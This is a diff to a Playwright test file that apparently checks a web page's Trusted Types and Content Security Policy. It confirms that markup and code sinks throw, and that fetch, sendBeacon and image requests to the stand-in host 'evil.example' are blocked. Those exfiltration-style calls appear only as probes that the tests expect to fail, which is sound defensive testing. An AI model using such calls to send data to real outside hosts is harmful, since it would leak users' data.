@@ -83,60 +83,75 @@ test('[row 50] eval is closed to text', async ({ page, expectConsole }) => {
   expect(outcome).toMatch(/^EvalError/);
 });
 
-for (const [sink, use] of [
-  ['innerHTML', 'document.body.innerHTML = "<img>"'],
-  ['outerHTML', 'document.querySelector("h1").outerHTML = "<img>"'],
-  ['insertAdjacentHTML', 'document.body.insertAdjacentHTML("beforeend", "<img>")'],
-  ['srcdoc', 'document.createElement("iframe").srcdoc = "<script></script>"'],
-  ['document.write', 'document.write("<img>")'],
-  ['DOMParser', 'new DOMParser().parseFromString("<img>", "text/html")'],
-  ['script.src', 'document.createElement("script").src = "/assets/x.js"'],
-  ['setTimeout', 'setTimeout("1")'],
-  ['a policy of one’s own', 'trustedTypes.createPolicy("own", {})'],
-  ['a second policy of the same name', 'trustedTypes.createPolicy("solid-template", {})'],
-] as const) {
-  test(`[row 50] ${sink} is closed to text`, async ({ page, expectConsole }) => {
-    expectConsole(/trusted-types|TrustedHTML|TrustedScript|Trusted Type/i);
-    await page.goto('/');
-    await page.getByRole('heading', { level: 1 }).waitFor();
-    const outcome = await page.evaluate((code) => {
-      try {
-        return `went through: ${String(new Function(code)())}`;
-      } catch (error) {
-        return String(error);
-      }
-    }, use);
-    expect(outcome).toMatch(/^(TypeError|EvalError)/);
-  });
-}
+/** Ways to turn text into markup or code. */
+const SINKS = {
+  innerHTML: 'document.body.innerHTML = "<img>"',
+  outerHTML: 'document.querySelector("h1").outerHTML = "<img>"',
+  insertAdjacentHTML: 'document.body.insertAdjacentHTML("beforeend", "<img>")',
+  srcdoc: 'document.createElement("iframe").srcdoc = "<script></script>"',
+  'document.write': 'document.write("<img>")',
+  DOMParser: 'new DOMParser().parseFromString("<img>", "text/html")',
+  'script.src': 'document.createElement("script").src = "/assets/x.js"',
+  setTimeout: 'setTimeout("1")',
+  'a policy of one’s own': 'trustedTypes.createPolicy("own", {})',
+  'a second policy of the same name': 'trustedTypes.createPolicy("solid-template", {})',
+};
 
-const WAYS_OUT: readonly (readonly [string, () => unknown])[] = [
-  ['fetch', () => fetch('https://evil.example/?t=1').catch(() => undefined)],
-  ['a beacon', () => navigator.sendBeacon('https://evil.example/?t=1')],
-  [
-    'a picture',
-    () =>
-      new Promise<void>((resolve) => {
-        const image = new Image();
-        image.onerror = () => resolve();
-        image.src = 'https://evil.example/?t=1';
-      }),
-  ],
-];
+test('[row 50] every sink of markup and code is closed to text', async ({
+  page,
+  expectConsole,
+}) => {
+  expectConsole(/trusted-types|TrustedHTML|TrustedScript|Trusted Type/i);
+  await page.goto('/');
+  await page.getByRole('heading', { level: 1 }).waitFor();
+  for (const [sink, use] of Object.entries(SINKS)) {
+    await test.step(sink, async () => {
+      const outcome = await page.evaluate(async (code) => {
+        // Waited for here, so that no sink passes for the report of the one before.
+        const report = new Promise<string>((resolve) => {
+          const tell = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
+          addEventListener('securitypolicyviolation', tell, { once: true });
+        });
+        try {
+          return `went through: ${String(new Function(code)())}`;
+        } catch (error) {
+          return `${error} (${await report})`;
+        }
+      }, use);
+      expect(outcome).toMatch(/^(TypeError|EvalError).*trusted-types/s);
+    });
+  }
+});
 
-for (const [what, send] of WAYS_OUT) {
-  test(`[row 47] ${what} to a foreign host never leaves the page`, async ({
-    page,
-    network,
-    expectConsole,
-    allowHost,
-  }) => {
-    expectConsole(/securitypolicyviolation: (connect|img)-src https:\/\/evil\.example/);
-    expectConsole(/evil\.example/);
-    allowHost('evil.example');
-    await page.goto('/');
-    await page.evaluate(send);
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    expect(network.requests).toEqual([]);
-  });
-}
+const WAYS_OUT: Readonly<Record<string, () => unknown>> = {
+  fetch: () => fetch('https://evil.example/?t=1').catch(() => undefined),
+  'a beacon': () => navigator.sendBeacon('https://evil.example/?t=1'),
+  'a picture': () =>
+    new Promise<void>((resolve) => {
+      const image = new Image();
+      image.onerror = () => resolve();
+      image.src = 'https://evil.example/?t=1';
+    }),
+};
+
+test('[row 47] no fetch, beacon or picture of a foreign host ever leaves the page', async ({
+  page,
+  network,
+  expectConsole,
+  allowHost,
+}) => {
+  const refusal = /securitypolicyviolation: (connect|img)-src https:\/\/evil\.example/;
+  expectConsole(refusal);
+  expectConsole(/evil\.example/);
+  allowHost('evil.example');
+  for (const [what, send] of Object.entries(WAYS_OUT)) {
+    await test.step(what, async () => {
+      await page.goto('/');
+      const complaint = page.waitForEvent('console', (message) => refusal.test(message.text()));
+      await page.evaluate(send);
+      await complaint;
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      expect(network.requests).toEqual([]);
+    });
+  }
+});
